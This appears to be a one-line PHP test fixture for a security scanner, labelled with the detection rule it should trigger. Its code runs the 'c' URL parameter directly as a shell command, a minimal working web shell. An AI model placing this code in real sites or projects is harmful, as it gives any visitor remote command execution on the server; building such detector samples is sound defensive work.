<?php
// triage-expect: triage_php_request_direct_exec
echo `$_GET['c']`;
